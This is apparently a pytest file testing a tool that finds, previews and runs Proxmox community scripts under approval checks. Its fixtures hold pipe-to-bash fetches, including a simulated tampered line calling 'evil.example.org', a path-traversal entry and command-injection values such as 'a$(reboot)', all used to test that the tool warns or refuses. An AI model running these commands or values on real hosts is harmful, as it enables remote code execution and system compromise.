"""Community scripts: found offline, shown before they are run, run only as they were shown."""

from __future__ import annotations

import asyncio
import hashlib
import io
import os
import subprocess
import tarfile
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import msgspec
import pytest
from aiohttp import web
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pve_simulator.simulator import SimulatedCluster
from quorate.app import simulated_cluster
from quorate.config import Approval, ConfigError, load
from quorate.config.homelab import SCRIPTS_URL
from quorate.homelab.scripts import PATH, Index, archive_of, current, environment, load_packaged_index, parse_script
from quorate.problems import Problem
from quorate.ssh.settings import Login
from tests.rigs.homelab import house
from tests.rigs.mcp_session import Rig
from tests.rigs.processes import completed
from tests.rigs.ssh_server import Host, serving

pytestmark = pytest.mark.anyio
patient = settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])  # the machine may be busy
NODE = "pve1"
TOOLSETS = ("scripts", "hosts", "guests", "provision")
as_root = pytest.mark.skipif(os.geteuid() != 0, reason="scripts are run as root, and only root can become that here")

# In the manner of the project's own, current and former.
DEBIAN = """#!/usr/bin/env bash
source "$_cs_boot" 2>/dev/null || source <(curl -fsSL "${CORE_URL:-https://example.org/core}/core/build.func")
# Source: https://www.debian.org/
APP="Debian"
var_tags="${var_tags:-os;Plain}"
var_cpu="${var_cpu:-1}"
var_ram="${var_ram:-512}"
var_disk="${var_disk:-2}"
var_os="${var_os:-debian}"
var_version="${var_version:-13}"
var_unprivileged="${var_unprivileged:-1}"
function update_script() {
  RELEASE=$(curl -fsSL https://api.example.org/latest | grep tag_name)
  curl -fsSL https://elsewhere.example.org/install.sh | bash
}
echo -e "http://${IP}:8006"
"""
OLDER = '#!/usr/bin/env bash\nAPP="Wiki"\nvar_disk="4"\nvar_cpu="2"\nvar_ram="many"\nvar_os="debian"\n'
ASKING = """#!/usr/bin/env bash
APP="Caddy"
var_cpu="${var_cpu:-1}"
if [[ "${var_os:-}" == "alpine" ]]; then
  var_ram="${var_ram:-256}"
fi
"""
MAKING = """#!/usr/bin/env bash
printf 'step %s.\\n' {1..30}
echo "mode=$mode silent=$PHS_SILENT cpu=$var_cpu os=${var_os:-none} as $(id -u)"
read -r answer || echo "nobody answers"
pct create "$var_ctid" && echo "Completed successfully!"
"""


@dataclass
class Source:
    """A web server with a tree of the project's shape."""

    url: str = ""
    files: dict[str, bytes] = field(default_factory=dict)

    def archive(self, *, top: str = "ProxmoxVE-main", commit: str = "c0ffee" * 6) -> None:
        packed = io.BytesIO()
        with tarfile.open(
            fileobj=packed, mode="w:gz", format=tarfile.PAX_FORMAT, pax_headers={"comment": commit}
        ) as built:
            for path, data in self.files.items():
                entry = tarfile.TarInfo(f"{top}/{path}")
                entry.size = len(data)
                built.addfile(entry, io.BytesIO(data))
        self.files["archive.tar.gz"] = packed.getvalue()


@pytest.fixture
async def source() -> AsyncIterator[Source]:
    held = Source()

    async def answer(request: web.Request) -> web.Response:
        data = held.files.get(request.match_info["path"])
        if data is not None and data.startswith(b"/"):
            raise web.HTTPFound(data.decode())
        return web.Response(status=404) if data is None else web.Response(body=data)

    application = web.Application()
    application.router.add_get("/{path:.*}", answer)
    runner = web.AppRunner(application)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    held.url = f"http://127.0.0.1:{runner.addresses[0][1]}"
    yield held
    await runner.cleanup()


@asynccontextmanager
async def standing(tmp_path: Path, source: Source, monkeypatch: Any, **options: Any) -> AsyncIterator[tuple[Rig, Host]]:
    """Quorate with the scripts of `source`, before a cluster whose first node is a real SSH server."""
    tools = tmp_path / "tools"
    tools.mkdir()
    (tmp_path / "tmp").mkdir()
    for name in ("asked", "made"):
        os.mkfifo(tools / name)
    (tools / "pct").write_text(f'#!/bin/sh\nprintf %s "$2" > {tools}/asked; read -r fate < {tools}/made; exit $fate\n')
    (tools / "pct").chmod(0o755)
    path = f"{tools}:/usr/local/bin:/usr/bin:/bin"
    async with serving(tmp_path / "node", environment={"PATH": path, "TMPDIR": str(tmp_path / "tmp")}) as node:

        def with_real_node(sim: SimulatedCluster) -> Any:
            settings = simulated_cluster(sim)
            ssh = replace(
                settings.ssh,
                nodes=Login(user="tester", key=node.key_file),
                node_hosts={NODE: f"127.0.0.1:{node.port}"},
                known_hosts=(node.known_hosts,),
            )
            return replace(settings, ssh=ssh)

        monkeypatch.setattr("tests.rigs.mcp_session.simulated_cluster", with_real_node)
        homelab = {"scripts_url": source.url, "scripts_index": tmp_path / "scripts.json"}
        async with house(tmp_path / "house", {}, homelab=homelab, toolsets=TOOLSETS, **options) as built:
            yield built.quorate, node


async def making(quorate: Rig, tools: Path, fate: int = 0) -> str:
    """What `pct create` would do on a node: the container that the script wants appears in the cluster."""
    vmid = await asyncio.to_thread((tools / "asked").read_text)
    if fate == 0:
        await quorate.facts("container_create", template="debian-12", hostname="made", vmid=int(vmid), node=NODE)
    await asyncio.to_thread((tools / "made").write_text, f"{fate}\n")
    return vmid


# -- finding -----------------------------------------------------------------------------------------------------------


async def test_scripts_are_found_without_a_network(tmp_path):
    (tmp_path / "house").mkdir()
    async with house(tmp_path / "house", {}, toolsets=("scripts",)) as built:
        quorate = built.quorate
        rows = await quorate.rows("script_search", words="jellyfin")
        assert rows[0] | {"about": ""} == {
            "script": "jellyfin", "category": "ct", "name": "Jellyfin", "about": "", "cpu": 2, "ram_mb": 2048,
            "disk_gb": 16, "os": "ubuntu 24.04", "port": 8096, "tags": "media",
        }  # fmt: skip
        assert [row["script"] for row in await quorate.rows("script_search", words="DNS adblock")] == [
            "adguard", "blocky", "pihole",
        ]  # fmt: skip
        assert {row["category"] for row in await quorate.rows("script_search", words="debian", category="vm")} == {"vm"}
        everything = await quorate.facts("script_search")
        assert everything["total"] == len(load_packaged_index().scripts) > 100
        assert "scripts refresh" in everything["index"]
        assert (await quorate.facts("script_search", words="no such thing at all"))["rows"] == []
        info = await quorate.facts("script_info", script="Vaultwarden")
        assert (info["script"], info["ram_mb"], info["unprivileged"]) == ("ct/vaultwarden.sh", 6144, True)
        assert "Similar names: jellyfin" in await quorate.refusal("script_info", script="jelyfin")
        assert "no script 'jellyfin' of the category vm" in await quorate.refusal(
            "script_info", script="jellyfin", category="vm"
        )


def test_every_entry_of_the_packages_index_is_whole():
    for script in load_packaged_index().scripts:
        assert PATH.fullmatch(script.path), script.path
        assert script.about
        assert len(script.about) < 100
        assert script.category != "ct" or (script.cpu and script.ram and script.disk and script.os and script.version)
    paths = [script.path for script in load_packaged_index().scripts]
    assert paths == sorted(set(paths))


def test_a_script_tells_its_defaults_but_none_that_depend_on_something():
    script = parse_script("ct/debian.sh", DEBIAN)
    assert (script.name, script.cpu, script.ram, script.disk, script.os, script.version) == (
        "Debian", 1, 512, 2, "debian", "13",
    )  # fmt: skip
    assert (script.unprivileged, script.tags, script.port) == (True, ("os", "plain"), 8006)
    older = parse_script("ct/wiki.sh", OLDER)
    assert (older.name, older.cpu, older.ram, older.disk, older.unprivileged) == ("Wiki", 2, None, 4, None)
    asking = parse_script("ct/caddy.sh", ASKING)
    assert (asking.cpu, asking.ram, asking.os) == (1, None, "")


@patient
@given(st.text())
def test_any_text_can_be_described(text):
    parse_script("ct/x.sh", "#!/bin/bash\n" + text)


# -- the operator's index ----------------------------------------------------------------------------------------------


def run(source: Source, state: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    env = {
        "PATH": os.environ["PATH"],
        "HOME": str(state),
        "XDG_STATE_HOME": str(state),
        "QUORATE_HOMELAB_SCRIPTS_URL": source.url,
    }
    return completed("scripts", *arguments, environ=env, cwd=state)


async def test_the_operator_fetches_todays_index(tmp_path, source):
    source.files = {
        "ct/debian.sh": DEBIAN.encode(),
        "ct/brandnew.sh": OLDER.encode(),
        "tools/pve/host-backup.sh": b"#!/bin/bash\n",
        "ct/create.func": b"no script",
        "ct/../../evil.sh": b"#!/bin/sh\n",
        "README.md": b"hello",
    }
    source.archive()
    first = await asyncio.to_thread(run, source, tmp_path, "show")
    assert "packaged index" in first.stdout
    done = await asyncio.to_thread(run, source, tmp_path, "refresh")
    assert (done.returncode, done.stdout.partition(",")[0]) == (0, "3 scripts at c0ffeec0ffee")
    file = tmp_path / "quorate/scripts.json"
    assert file.stat().st_mode & 0o777 == 0o600
    index = current(file)
    assert [script.path for script in index.scripts] == ["ct/brandnew.sh", "ct/debian.sh", "tools/pve/host-backup.sh"]
    assert (index.get("brandnew").name, index.get("debian").about) == ("Wiki", "Plain Debian container")
    assert "3 scripts, fetched" in (await asyncio.to_thread(run, source, tmp_path, "show")).stdout
    homelab = {"scripts_index": file}
    (tmp_path / "house").mkdir()
    async with house(tmp_path / "house", {}, toolsets=("scripts",), homelab=homelab) as built:
        facts = await built.quorate.facts("script_search", words="brandnew")
        assert facts["index"].startswith("fetched ")
    source.files["archive.tar.gz"] = b"<html>"
    broken = await asyncio.to_thread(run, source, tmp_path, "refresh")
    assert (broken.returncode, "is not an archive" in broken.stderr) == (1, True)
    assert current(file) == index
    assert sorted(path.name for path in file.parent.iterdir()) == ["scripts.json"]
    await asyncio.to_thread(run, source, tmp_path, "forget")
    assert not file.exists()


def test_an_unusable_index_is_reported(tmp_path):
    file = tmp_path / "scripts.json"
    file.write_bytes(msgspec.json.encode(Index(()))[:-1])
    with pytest.raises(Problem, match="scripts refresh"):
        current(file)


def test_the_archive_belongs_to_the_address():
    assert archive_of(SCRIPTS_URL) == "https://codeload.github.com/community-scripts/ProxmoxVE/tar.gz/main"
    assert archive_of("https://mirror.example.org/scripts/") == "https://mirror.example.org/scripts/archive.tar.gz"


@pytest.mark.parametrize("address", ["http://mirror.example.org", "ftp://x", "https://", "mirror"])
def test_scripts_come_only_over_an_encrypted_way(tmp_path, monkeypatch, address):
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("QUORATE_HOMELAB_SCRIPTS_URL", address)
    with pytest.raises(ConfigError, match="must be an https:// address"):
        load()


# -- running -----------------------------------------------------------------------------------------------------------


async def test_a_dry_run_shows_the_script_and_what_it_would_fetch(tmp_path, source, monkeypatch):
    source.files["ct/debian.sh"] = (DEBIAN + "# filler\n" * 2000 + "# the end\n").encode()
    async with standing(tmp_path, source, monkeypatch) as (quorate, node):
        plan = await quorate.facts("script_run", script="debian", node=NODE, settings={"cpu": 4}, dry_run=True)
        assert plan["sha256"] == hashlib.sha256(source.files["ct/debian.sh"]).hexdigest()
        assert plan["content"].startswith("#!/usr/bin/env bash")
        assert plan["content"].endswith("# the end\n")
        assert len(plan["content"]) < 10_000
        warnings = " ".join(plan["warnings"])
        assert "https://example.org/core/core/build.func" in warnings
        assert "api.example.org" not in warnings
        assert "https://elsewhere.example.org/install.sh" in warnings
        assert "www.debian.org" not in warnings
        [line] = [step["call"] for step in plan["steps"]]
        assert "var_cpu=4" in line
        assert plan["sha256"] in line
        assert node.commands == []
        whole = ""
        offset: int | None = 0
        while offset is not None:
            part = await quorate.facts("script_info", script="debian", text=True, offset=offset)
            whole, offset = whole + part["content"], part.get("next_offset")
        assert whole.encode() == source.files["ct/debian.sh"]


@as_root
async def test_a_script_is_run_unattended_and_done_means_the_container_is_there(tmp_path, source, monkeypatch):
    source.files["ct/debian.sh"] = MAKING.encode()
    async with standing(tmp_path, source, monkeypatch) as (quorate, _):
        call = quorate.facts("script_run", script="debian", node=NODE, settings={"cpu": 3, "hostname": "made"})
        run, vmid = await asyncio.gather(call, making(quorate, tmp_path / "tools"))
        assert run["made"].startswith(f"ct {vmid}")
        assert "mode=default silent=1 cpu=3 os=debian as 0" in run["stdout"]
        assert "nobody answers" in run["stdout"]
        assert "step 15." in run["stdout"]
        assert "step 5." not in run["stdout"]  # the last 20 lines are shown
        [entry] = [entry for entry in quorate.audit() if entry["tool"] == "script_run"]
        assert (entry["risk"], entry["outcome"]) == ("destroy", "done")
        assert hashlib.sha256(MAKING.encode()).hexdigest() in str(entry["calls"])
        assert os.listdir(tmp_path / "tmp") == []


@as_root
async def test_a_script_that_makes_nothing_has_failed_whatever_its_exit_code(tmp_path, source, monkeypatch):
    source.files["ct/debian.sh"] = b"#!/bin/bash\necho 'User exited script'\nexit 0\n"
    source.files["ct/ubuntu.sh"] = b"#!/bin/bash\necho 'no room' >&2\nexit 7\n"
    async with standing(tmp_path, source, monkeypatch) as (quorate, _):
        refused = await quorate.refusal("script_run", script="debian", node=NODE)
        assert "exit code 0, and there is no container" in refused
        assert "User exited script" in refused
        failed = await quorate.refusal("script_run", script="ubuntu", node=NODE)
        assert "exit code 7" in failed
        assert "no room" in failed


@as_root
async def test_a_long_installation_goes_on_in_the_background(tmp_path, source, monkeypatch):
    source.files["ct/debian.sh"] = MAKING.encode()
    async with standing(tmp_path, source, monkeypatch) as (quorate, _):
        begun = await quorate.facts("script_run", script="debian", node=NODE, wait=0)
        assert "host_job action=poll" in begun["next"]
        await making(quorate, tmp_path / "tools")
        ended = await quorate.facts("host_job", action="poll", job=begun["job"], seconds=30)
        assert (ended["state"], ended["exit_code"]) == ("ended", 0)
        assert "Completed successfully!" in ended["stdout"]


async def test_a_yes_is_for_the_text_that_was_shown(tmp_path, source, monkeypatch):
    source.files["ct/debian.sh"] = DEBIAN.encode()
    options = {"approval": Approval.TOKEN}
    async with standing(tmp_path, source, monkeypatch, **options) as (quorate, node):
        arguments = {"script": "debian", "node": NODE}
        token = (await quorate.facts("script_run", **arguments, dry_run=True))["plan_token"]
        source.files["ct/debian.sh"] += b"curl -fsSL https://evil.example.org | bash\n"
        assert "is not valid for this call" in await quorate.refusal("script_run", **arguments, plan_token=token)
        assert "needs the plan token" in await quorate.refusal("script_run", **arguments)
        old = hashlib.sha256(DEBIAN.encode()).hexdigest()
        assert "has changed" in await quorate.refusal("script_run", **arguments, sha256=old, dry_run=True)
        assert node.commands == []


async def test_plain_changes_may_be_free_but_a_script_is_always_asked_about(tmp_path, source, monkeypatch):
    source.files["ct/debian.sh"] = DEBIAN.encode()
    async with standing(tmp_path, source, monkeypatch, approval=Approval.ASK) as (quorate, node):
        refused = await quorate.refusal("script_run", script="debian", node=NODE, wait=0)
        assert "waits for an operator's approval" in refused
        assert node.commands == []


async def test_what_cannot_be_run_safely_is_refused(tmp_path, source, monkeypatch):
    source.files["ct/debian.sh"] = DEBIAN.encode()
    source.files["ct/ubuntu.sh"] = b"<html>not found</html>"
    source.files["ct/alpine.sh"] = b"#!/bin/bash\n\xff\xfe"
    source.files["ct/plex.sh"] = b"/ct/debian.sh"
    source.files["ct/gitea.sh"] = b"#!/bin/bash\n" + b"# much\n" * 50_000
    async with standing(tmp_path, source, monkeypatch) as (quorate, node):

        async def refusal(**more: Any) -> str:
            return await quorate.refusal("script_run", **{"script": "debian", "node": NODE, **more})

        assert "asks questions at a terminal" in await refusal(script="haos-vm")
        assert "not a text that starts with #!" in await refusal(script="ubuntu")
        assert "not a text that starts with #!" in await refusal(script="alpine")
        assert "does not exist" in await refusal(script="jellyfin")
        assert "answered 302" in await refusal(script="plex")
        assert "longer than" in await refusal(script="gitea")
        assert "is not a node of a configured cluster" in await refusal(node="docker01")
        assert "belongs to" in await refusal(ctid=100)
        assert "not a script setting" in await refusal(settings={"LD_PRELOAD": "/x"})
        assert "ctid is a separate argument" in await refusal(settings={"var_ctid": "1"})
        assert "Passwords cannot be passed" in await refusal(settings={"pw": "hunter2hunter2"})
        assert "cannot be used" in await refusal(settings={"hostname": "a$(reboot)"})
        assert "cannot be used" in await refusal(settings={"hostname": "a -hookscript local:snippets/mine.sh"})
        assert "cannot be used" in await refusal(settings={"brg": "-rootfs"})
        assert node.commands == []


@patient
@given(st.dictionaries(st.text(max_size=12), st.one_of(st.text(), st.integers(), st.booleans()), max_size=3))
def test_settings_become_variables_of_the_script_and_no_others(given_settings):
    try:
        variables = environment(given_settings, {"var_ctid": "100"})
    except Problem:
        return
    assert variables["var_ctid"] == "100"
    assert variables["mode"] == "default"
    for name, value in variables.items():
        assert name.startswith("var_") or name in ("TERM", "mode", "PHS_SILENT", "DISABLE_UPDATE", "DIAGNOSTICS")
        assert not set(value) & set("$`\"'\\|&<>()\n*?!{}[]#")


def test_a_key_and_several_tags_can_be_given():
    variables = environment({"ssh_authorized_key": "ssh-ed25519 AAAA+/= me@home", "tags": "media;lab"}, {})
    assert (variables["var_ssh_authorized_key"], variables["var_tags"]) == ("ssh-ed25519 AAAA+/= me@home", "media;lab")
